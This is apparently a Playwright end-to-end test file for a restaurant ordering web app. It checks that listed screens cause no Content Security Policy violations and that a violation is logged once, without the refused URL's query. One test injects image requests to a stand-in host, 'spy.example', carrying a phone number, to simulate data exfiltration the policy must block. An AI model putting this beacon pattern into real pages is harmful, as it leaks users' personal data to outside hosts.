import { watchCspViolations } from '@/e2e/support/csp-violations'
import { type RunningServer, startServer } from '@/e2e/support/servers/start-server'
import { withoutStreams } from '@/e2e/support/steps/menu/availability-steps'
import { expect, test } from '@/e2e/support/test'

/** Every screen that reads forms, answers or what the device keeps, by the library that would try it. */
const SCREENS = [
  '/r/q/1001/menu',
  '/r/q/1001/menu/pdfviewer',
  '/r/q/1001/info',
  '/r/q/1001/orders',
  '/r/q/1001/orders/tables',
  '/d/q/1004/orders/type',
  '/d/q/1004/orders/delivery',
  '/t/q/1004/orders/takeaway',
  '/d/q/1005/orders/shipment',
  '/r/q/1001/orders/payments',
  '/r/q/1001/orders/success?provider=cash',
  '/r/q/1001/orders/awaitsms?provider=cash',
  '/b/q/osteria-del-porto/bookingrestaurant',
]

test('no screen does anything that its content security policy refuses', async ({ page }) => {
  const refused = await watchCspViolations(page)
  await withoutStreams(page.context())
  for (const address of SCREENS) {
    await page.goto(address)
    await page.waitForLoadState('networkidle')
    expect(await refused(), address).toEqual([])
  }
})

test.describe('a violation of the policy', () => {
  test.use({
    expectedErrors: [/Content Security Policy/],
    // To this page there is no TLS: with it, reports come a minute later and over TLS alone.
    extraHTTPHeaders: { 'x-forwarded-proto': 'http' },
  })

  let server: RunningServer
  const lines: string[] = []

  test.beforeAll(async () => {
    const env = { COPERTO_TRUSTED_HOPS: '1', COPERTO_RATE_FACTOR: '1' }
    server = await startServer({ env, onLine: (line) => lines.push(line) })
  })
  test.afterAll(() => server.kill())

  const violations = (): string[] =>
    lines.flatMap((line) => {
      const { msg, directive, blocked } = line.startsWith('{') ? JSON.parse(line) : {}
      return msg === 'csp_violation' ? [`${directive} ${blocked}`] : []
    })

  test('is one line in the log, without the query of what was refused', async ({ page }) => {
    await page.goto(`${server.url}/r/q/1001?lang=it`)
    await page.evaluate(() => {
      for (let tries = 0; tries < 5; tries++) new Image().src = `https://spy.example/ada?phone=3331234567&n=${tries}`
    })
    await expect.poll(() => violations()).toEqual(['img-src https://spy.example'])
    expect(lines.join()).not.toContain('3331234567')
  })
})
